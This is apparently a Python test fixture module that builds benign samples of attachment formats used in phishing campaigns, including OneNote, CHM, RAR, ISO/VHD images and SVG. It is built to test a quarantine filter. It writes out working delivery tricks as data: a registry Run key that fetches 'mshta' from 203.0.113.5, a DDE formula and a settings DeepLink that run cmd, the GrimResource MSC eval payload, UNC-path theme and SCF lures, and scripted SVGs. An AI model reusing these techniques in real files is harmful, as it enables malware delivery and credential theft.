"""Carrier samples (OneNote, CHM, shell links, SVG, disk images, RAR, JAR) built in the
tests, harmless, in the formats' real layouts.

Disk images are made by the real tools (xorriso for ISO 9660, mkfs.fat + mtools for FAT);
RAR has no free creator in Debian, so RAR 4 and RAR 5 "stored" archives are written here per
the published formats (RAR 4: technote.txt of RAR 3.x-4.x; RAR 5: rarlab's "RAR 5.0 archive
format"), with their CRCs; rarfile and libarchive both read them (tests check it).
"""

from __future__ import annotations

import shutil
import struct
import subprocess
import tempfile
import uuid
import zipfile
import zlib
from pathlib import Path

from tests import samples

HTA = (b"<html><head><hta:application id=\"app\" windowstate=\"minimize\"/>"
       b"<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\""
       b"</script></head></html>")
JS = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"


def _guid(text: str) -> bytes:
    return uuid.UUID(text).bytes_le


# OneNote (MS-ONESTORE) -----------------------------------------------------------------------
ONE_SECTION = "7B5C52E4-D88C-4DA7-AEB1-5378D02996D3"
ONE_FORMAT = "109ADD3F-911B-49F5-A5D0-1791EDC8AED8"
FDSO_HEADER = "BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC"
FDSO_FOOTER = "71FBA722-0F79-4A0B-BB13-899256426B24"


def file_data_store_object(data: bytes) -> bytes:
    """MS-ONESTORE 2.6.13: guidHeader, cbLength, unused, reserved, FileData padded to 8
    bytes, guidFooter."""
    pad = b"\0" * (-len(data) % 8)
    return (_guid(FDSO_HEADER) + struct.pack("<QIQ", len(data), 0, 0) + data + pad
            + _guid(FDSO_FOOTER))


def onenote(*files: bytes) -> bytes:
    """A OneNote 2010+ section: the 1024-byte header (2.3.1) with the section file type and
    file format GUIDs, then one FileDataStoreObject per embedded file."""
    header = bytearray(1024)
    header[0:16] = _guid(ONE_SECTION)
    header[16:32] = uuid.uuid4().bytes_le  # guidFile
    header[48:64] = _guid(ONE_FORMAT)
    struct.pack_into("<IIII", header, 64, 0x2A, 0x2A, 0x2A, 0x2A)  # ffv fields
    body = b"".join(file_data_store_object(f) for f in files)
    struct.pack_into("<Q", header, 0x90, 1024 + len(body))  # cbExpectedFileLength
    return bytes(header) + body


# CHM ------------------------------------------------------------------------------------------
def chm() -> bytes:
    """The ITSF header (version 3, 0x60 bytes with its two GUIDs and section table) and the
    ITSP directory header that every .chm begins with; no pages."""
    itsf = (b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0x12345678, 0x0409)
            + _guid("7C01FD10-7BAA-11D0-9E0C-00A0C922E6EC")
            + _guid("7C01FD11-7BAA-11D0-9E0C-00A0C922E6EC")
            + struct.pack("<QQQQQ", 0x60, 0x18, 0x78, 0x54, 0x1054 + 0x78))
    itsp = b"ITSP" + struct.pack("<III", 1, 0x54, 0x0A) + b"\0" * (0x54 - 16)
    return itsf.ljust(0x78, b"\0") + itsp + b"\0" * 0x1000


# Shell links ------------------------------------------------------------------------------------
SHELL_LINKS = {
    "thong-bao.url": b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/hoadon.exe\r\n"
                     b"IconIndex=1\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n",
    "cong-thong-tin.website": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n"
                              b"[InternetShortcut]\r\nURL=https://203.0.113.5/\r\n",
    "bang-gia.iqy": b"WEB\r\n1\r\nhttps://203.0.113.5/payload.html\r\n",
    "so-lieu.slk": b"ID;P\r\nC;X1;Y1;K0;E=cmd|' /C calc'!A0\r\nE\r\n",
    "cai-dat.settingcontent-ms": (
        b'<?xml version="1.0" encoding="UTF-8"?>\r\n<PCSettings>\r\n  <SearchableContent '
        b'xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">\r\n'
        b"    <ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy"
        b"!microsoft.windows.immersivecontrolpanel</AppID><DeepLink>%windir%\\system32\\"
        b"cmd.exe /c calc.exe</DeepLink></ApplicationInformation>\r\n"
        b"  </SearchableContent>\r\n</PCSettings>\r\n"),
    "tai-lieu.library-ms": (
        b'<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://'
        b'schemas.microsoft.com/windows/2009/library">\r\n<searchConnectorDescriptionList>'
        b"<searchConnectorDescription><simpleLocation><url>\\\\203.0.113.5\\share</url>"
        b"</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>\r\n"
        b"</libraryDescription>\r\n"),
    "tim-kiem.search-ms": (
        b'<?xml version="1.0"?>\r\n<persistedQuery version="1.0"><viewInfo viewMode="details"/>'
        b"<query><scope><include knownFolder=\"{00000000-0000-0000-0000-000000000000}\"/>"
        b"</scope></query></persistedQuery>\r\n"),
}


# Launchers: files Windows opens with a program that runs them, shaped like the campaigns' files.
# (name, content, rejected): rejected False for the kinds that are quarantined.
LAUNCHERS = {
    # GrimResource (2024): a console whose string table runs script through apds.dll.
    "bao-cao-tuan.msc": (
        b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI">'
        b"<StringTables><StringTable><Strings><String ID=\"39\" Refs=\"1\">res://apds.dll/"
        b"redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot()."
        b"Name)</String></Strings></StringTable></StringTables></MMC_ConsoleFile>\r\n", True),
    "cap-nhat.appinstaller": (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<AppInstaller Uri="https://203.0.113.5/'
        b'a.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/'
        b'appinstaller/2018"><MainBundle Name="VanBan" Publisher="CN=UBND" Version="1.0.0.0" '
        b'Uri="https://203.0.113.5/a.msixbundle"/></AppInstaller>\r\n', True),
    "phan-mem-ky-so.application": (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<asmv1:assembly manifestVersion="1.0" '
        b'xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment install="true">'
        b'<deploymentProvider codebase="https://203.0.113.5/a.application"/></deployment>'
        b"</asmv1:assembly>\r\n", True),
    "hinh-nen.theme": (b"[Theme]\r\nDisplayName=UBND\r\n[VisualStyles]\r\n"
                       b"Path=\\\\203.0.113.5\\share\\Aero.msstyles\r\n", True),
    "thu-muc.scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\share\\i.ico\r\n", True),
    # The signed .rdp files of October 2024: drives and clipboard shared with the server.
    "ket-noi-bo-ngoai-giao.rdp": (b"full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n"
                                  b"redirectclipboard:i:1\r\n", False),
    "cai-dat-may-in.reg": (b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
                           b"Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
                           b'"a"="mshta https://203.0.113.5/a"\r\n', False),
}


# SVG --------------------------------------------------------------------------------------------
_SVG_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
             b'xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">\n')
SVG_ACTIVE = {
    "script": _SVG_HEAD + b"<script>location='https://203.0.113.5/'</script></svg>",
    "onload": _SVG_HEAD.replace(b"height", b'onload="fetch(1)" height') + b"</svg>",
    "foreignObject": _SVG_HEAD + b"<foreignObject width='100' height='50'><body xmlns="
                     b"'http://www.w3.org/1999/xhtml'><iframe src='https://x'/></body>"
                     b"</foreignObject></svg>",
    "javascript-href": _SVG_HEAD + b"<a xlink:href=\"javascript:alert(1)\"><text y='20'>"
                       b"Xem</text></a></svg>",
    "data-html": _SVG_HEAD + b"<a href=\"data:text/html;base64,PHNjcmlwdD4=\"><text>Mo"
                 b"</text></a></svg>",
}


def svg_plain(i: int = 0) -> bytes:
    """An ordinary drawing as Inkscape saves it: shapes, text, an embedded PNG, a link."""
    png = samples_png(8, 8, i)
    import base64

    return (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            b"<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
            b'xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="210mm"'
            b' height="297mm" viewBox="0 0 210 297">\n<g inkscape:label="Layer 1">'
            + f'<rect x="{10 + i}" y="10" width="50" height="30" style="fill:#c00"/>'.encode()
            + "<text x='20' y='60'>UBND tỉnh — logo online=mới; bật javascript: không cần"
              "</text>".encode()
            + b'<image width="8" height="8" xlink:href="data:image/png;base64,'
            + base64.b64encode(png) + b'"/><a href="https://hue.gov.vn/"><text y="80">'
            b"hue.gov.vn</text></a></g>\n</svg>\n")


def samples_png(w: int, h: int, seed: int = 0) -> bytes:
    """A valid PNG (RGB, 8 bits) with a pattern depending on ``seed``."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    rows = b"".join(b"\0" + bytes(((x * 7 + y * 13 + seed) % 256) for x in range(w * 3))
                    for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


# RAR 4 and RAR 5, stored ---------------------------------------------------------------------
def rar4(files: dict[str, bytes]) -> bytes:
    """RAR 4 (RAR 2.9 format): marker block, archive header, one file header (method 0x30,
    stored) per file followed by its data, end-of-archive block. HEAD_CRC is the low 16
    bits of the CRC32 of the header from HEAD_TYPE on."""
    def block(kind: int, flags: int, rest: bytes) -> bytes:
        body = struct.pack("<BHH", kind, flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body

    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\0" * 6)
    for name, data in files.items():
        raw = name.encode()
        rest = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data),
                           0x5B210000, 29, 0x30, len(raw), 0x20) + raw
        out += block(0x74, 0x8000, rest) + data
    return out + block(0x7B, 0x4000, b"")


def _vint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def rar5(files: dict[str, bytes], streams: dict[str, bytes] | None = None) -> bytes:
    """RAR 5: signature, main archive header, one file header (compression method 0,
    stored) with data CRC32 per file followed by its data, end-of-archive header. Each
    header's CRC32 covers its size field and its body. ``streams``: NTFS alternate data
    streams of the last file, each a service header named "STM" whose service-data extra
    record (type 7) is the stream's name, as WinRAR's -os switch stores them."""
    def header(body: bytes) -> bytes:
        sized = _vint(len(body)) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized

    out = b"Rar!\x1a\x07\x01\x00" + header(_vint(1) + _vint(0) + _vint(0))
    for name, data in files.items():
        raw = name.encode()
        body = (_vint(2) + _vint(0x02) + _vint(len(data))  # type file, has data area
                + _vint(0x04) + _vint(len(data)) + _vint(0x20)  # CRC present, size, attrs
                + struct.pack("<I", zlib.crc32(data)) + _vint(0)  # stored, version 0
                + _vint(0) + _vint(len(raw)) + raw)  # host Windows, name
        out += header(body) + data
    for stream, data in (streams or {}).items():
        record = _vint(7) + stream.encode()
        extra = _vint(len(record)) + record
        body = (_vint(3) + _vint(0x03) + _vint(len(extra)) + _vint(len(data))  # service
                + _vint(0x04) + _vint(len(data)) + _vint(0)
                + struct.pack("<I", zlib.crc32(data)) + _vint(0)
                + _vint(0) + _vint(3) + b"STM" + extra)
        out += header(body) + data
    return out + header(_vint(5) + _vint(0) + _vint(0))


# Disk images made by real tools --------------------------------------------------------------
def have_image_tools() -> bool:
    return all(shutil.which(t) for t in ("xorriso", "mkfs.fat", "mcopy", "mmd"))


def iso_of(files: dict[str, bytes]) -> bytes:
    """An ISO 9660 image with Joliet and Rock Ridge names, made by xorriso."""
    with tempfile.TemporaryDirectory() as d:
        root = Path(d) / "root"
        for name, data in files.items():
            p = root / name
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_bytes(data)
        subprocess.run(["xorriso", "-as", "mkisofs", "-quiet", "-J", "-R", "-V", "HOSO",
                        "-o", f"{d}/out.iso", str(root)], check=True, capture_output=True)
        return Path(d, "out.iso").read_bytes()


def udf_iso(udf: dict[str, bytes], iso9660: dict[str, bytes] | None = None,
            udf_only: bool = False) -> bytes:
    """A UDF 2.60 image written by pycdlib, with ``iso9660`` files on its ISO 9660 side only
    (a decoy), and ``udf`` files on its UDF side only. ``udf_only`` then turns the volume
    recognition sequence into that of a UDF-only disc (BEA01, NSR02, TEA01 from sector 16,
    no CD001), as Windows' oscdimg -u2 writes it."""
    import io

    import pycdlib

    iso = pycdlib.PyCdlib()
    iso.new(udf="2.60", interchange_level=3)
    for name, data in (iso9660 or {}).items():
        iso.add_fp(io.BytesIO(data), len(data), f"/{name.upper()};1")
    made: set[str] = set()
    for name, data in udf.items():
        parts = name.split("/")
        for i in range(1, len(parts)):
            d = "/" + "/".join(parts[:i])
            if d not in made:
                iso.add_directory(udf_path=d)
                made.add(d)
        iso.add_fp(io.BytesIO(data), len(data), udf_path="/" + name)
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    image = bytearray(out.getvalue())
    if udf_only:
        vrs = [bytes(image[n * 2048:(n + 1) * 2048]) for n in range(16, 21)]
        keep = [v for v in vrs if v[1:6] in (b"BEA01", b"NSR02", b"TEA01")]
        for n in range(16, 21):
            image[n * 2048:(n + 1) * 2048] = keep[n - 16] if n - 16 < len(keep) else bytes(2048)
    return bytes(image)


def fat_of(files: dict[str, bytes], kib: int = 1440, fat: int = 12) -> bytes:
    """A FAT volume (mkfs.fat) with the files copied in by mtools (long names kept)."""
    with tempfile.TemporaryDirectory() as d:
        img = f"{d}/disk.img"
        subprocess.run(["mkfs.fat", "-C", "-F", str(fat), "-n", "USB", img, str(kib)],
                       check=True, capture_output=True)
        for name, data in files.items():
            src = Path(d) / "src"
            src.write_bytes(data)
            parts = name.split("/")
            for i in range(1, len(parts)):
                subprocess.run(["mmd", "-D", "s", "-i", img, "::" + "/".join(parts[:i])],
                               capture_output=True)  # exists already: fine
            subprocess.run(["mcopy", "-i", img, str(src), "::" + name], check=True,
                           capture_output=True)
        return Path(img).read_bytes()


def mbr_disk(volume: bytes, ptype: int = 0x06) -> bytes:
    """A partitioned disk: an MBR with one partition at LBA 1 holding ``volume``."""
    mbr = bytearray(512)
    mbr[446:462] = struct.pack("<B3sB3sII", 0x80, b"\0\0\0", ptype, b"\0\0\0", 1,
                               len(volume) // 512)
    mbr[510:512] = b"\x55\xaa"
    return bytes(mbr) + volume


def vhd_fixed(disk: bytes) -> bytes:
    """A fixed VHD: the raw disk and the 512-byte "conectix" footer (disk type 2, big-endian
    fields, one's-complement checksum)."""
    footer = bytearray(512)
    footer[0:8] = b"conectix"
    struct.pack_into(">IIQI", footer, 8, 2, 0x00010000, 0xFFFFFFFFFFFFFFFF, 0)
    footer[28:32] = b"vpc "
    struct.pack_into(">QQ", footer, 40, len(disk), len(disk))
    struct.pack_into(">I", footer, 60, 2)  # fixed
    footer[68:84] = uuid.uuid4().bytes
    struct.pack_into(">I", footer, 64, ~sum(footer) & 0xFFFFFFFF)
    return disk + bytes(footer)


def have_gcab() -> bool:
    return shutil.which("gcab") is not None


def cab_of(files: dict[str, bytes]) -> bytes:
    """A Microsoft cabinet (MSZIP-compressed) written by gcab."""
    with tempfile.TemporaryDirectory() as d:
        for name, data in files.items():
            Path(d, name).write_bytes(data)
        subprocess.run(["gcab", "-c", "-z", f"{d}/out.cab", *files], cwd=d, check=True,
                       capture_output=True)
        return Path(d, "out.cab").read_bytes()


def have_qemu_img() -> bool:
    return shutil.which("qemu-img") is not None


def qemu_image(raw: bytes, fmt: str, subformat: str = "", grow_to: str = "") -> bytes:
    """``raw`` converted by qemu-img to ``vpc`` (VHD; ``subformat`` fixed or dynamic) or
    ``vhdx``, optionally as a larger, sparse virtual disk of ``grow_to`` (e.g. "64G")."""
    with tempfile.TemporaryDirectory() as d:
        Path(d, "raw.img").write_bytes(raw)
        opts = ["-o", f"subformat={subformat}"] if subformat else []
        if grow_to:  # qemu-img cannot resize a VHDX: make the large disk, then write into it
            subprocess.run(["qemu-img", "create", "-q", "-f", fmt, *opts, f"{d}/out", grow_to],
                           check=True, capture_output=True)
            opts.append("-n")
        subprocess.run(["qemu-img", "convert", "-f", "raw", "-O", fmt, *opts, f"{d}/raw.img",
                        f"{d}/out"], check=True, capture_output=True)
        return Path(d, "out").read_bytes()


# Java -------------------------------------------------------------------------------------------
def java_class() -> bytes:
    """The head of a class file: magic, minor 0, major 52 (Java 8), a tiny constant pool."""
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x0a" + b"\x01\x00\x04Main" + b"\0" * 40


def jar() -> bytes:
    import io

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Main\r\n")
        z.writestr("Main.class", java_class())
    return buf.getvalue()


def message(name: str, data: bytes, ctype: str = "application/octet-stream") -> bytes:
    return samples.mime_message("Tai lieu", [(name, ctype, data)])
